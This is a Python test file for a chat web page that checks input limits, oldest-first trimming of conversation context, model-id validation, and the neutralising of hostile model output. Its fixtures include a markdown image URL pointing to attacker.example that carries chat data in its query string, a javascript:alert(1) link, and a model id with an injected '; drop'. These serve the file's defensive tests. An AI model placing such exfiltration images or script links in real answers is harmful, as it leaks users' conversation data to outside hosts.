"""Bad input and hostile output on the chat page: each gets a clear message, nothing is sent
blindly, nothing the user typed is lost, and nothing remote loads by itself."""

from __future__ import annotations

from components.state import chat as chat_state
from devtools.standin import Reply
from tests.app.helpers import bubble_texts, captions, errors, send, start_app

ATTACKER = "https://attacker.example/pixel.png?d=secret-from-the-chat"


def test_a_prompt_over_the_limit_is_not_sent_and_stays_in_the_input(gateway_env, monkeypatch):
    monkeypatch.setenv("GPTPROTO_MAX_PROMPT_CHARS", "40")
    prompt = "x" * 55
    at = send(start_app(), prompt)
    assert "The prompt is 55 characters long; the limit is 40." in errors(at)
    assert at.chat_input(key=chat_state.INPUT).value == prompt
    assert gateway_env.requests == []
    assert bubble_texts(at) == []


def test_a_prompt_too_long_for_the_context_window_is_refused_and_kept(gateway_env, monkeypatch):
    # 6,000 tokens minus the 4,096 kept for the answer leaves 1,904, about 7,600 characters.
    monkeypatch.setenv("GPTPROTO_CONTEXT_WINDOWS", "o4-mini=6000")
    prompt = "word " * 2_000  # 10,000 characters
    at = send(start_app(), prompt)
    assert "Not sent: too long for the model" in errors(at)
    assert gateway_env.requests == []
    assert bubble_texts(at)[0] == ("user", prompt.strip())  # the message stays, with Retry


def test_a_long_conversation_is_trimmed_oldest_first_and_the_user_told(gateway_env, monkeypatch):
    monkeypatch.setenv("GPTPROTO_CONTEXT_WINDOWS", "o4-mini=6000")
    gateway_env.enqueue(Reply(text="First."), Reply(text="Second."), Reply(text="Third."))
    at = start_app()
    for label in ("one", "two", "three"):
        send(at, f"{label} " + "padding " * 360)  # about 2,900 characters (~725 tokens) each
    sent = [m["content"].split()[0] for m in gateway_env.requests[-1].body["messages"]]
    assert sent == ["two", "Second.", "three"]  # the oldest exchange did not fit
    assert "The 2 oldest messages were not sent" in captions(at)
    assert len(gateway_env.requests[0].body["messages"]) == 1


def test_an_invalid_custom_model_id_is_named_and_nothing_is_sent(gateway_env):
    at = start_app()
    at.selectbox(key=chat_state.MODEL).set_value("Custom model id…").run()
    at.text_input(key=chat_state.CUSTOM_MODEL).set_value("o3 mini; drop").run()
    assert "space" in errors(at)
    send(at, "Hello")
    assert "Not sent: fix the sidebar first" in errors(at)
    assert gateway_env.requests == []


def test_instructions_over_the_limit_show_a_counter_and_block_sending(gateway_env, monkeypatch):
    monkeypatch.setenv("GPTPROTO_MAX_INSTRUCTIONS_CHARS", "20")
    at = start_app()
    at.text_area(key=chat_state.OPTIONS.instructions).set_value("Be brief and kind to everyone.").run()
    assert "30 / 20 characters" in captions(at)
    assert "The instructions prompt is 30 characters long; the limit is 20." in errors(at)
    send(at, "Hi")
    assert gateway_env.requests == []


def test_a_remote_image_in_an_answer_becomes_a_link_that_loads_nothing(gateway_env):
    gateway_env.enqueue(Reply(text=f"Here it is: ![chart]({ATTACKER}) and a [doc](javascript:alert(1))."))
    at = send(start_app(), "Show me")
    shown = " ".join(md.value for md in at.chat_message[-1].markdown)
    assert "![" not in shown  # no image syntax left for the browser to fetch
    assert "attacker.example" in shown  # still there, as a link to click
    assert "\\[doc\\](javascript:alert(1))" in shown  # escaped: shown as text, never a link


def test_allowed_image_hosts_still_show_inline(gateway_env, monkeypatch):
    monkeypatch.setenv("GPTPROTO_ALLOWED_IMAGE_HOSTS", "images.example.com")
    gateway_env.enqueue(Reply(text="![plot](https://images.example.com/plot.png)"))
    at = send(start_app(), "Plot")
    shown = " ".join(md.value for md in at.chat_message[-1].markdown)
    assert "![plot](<https://images.example.com/plot.png>)" in shown
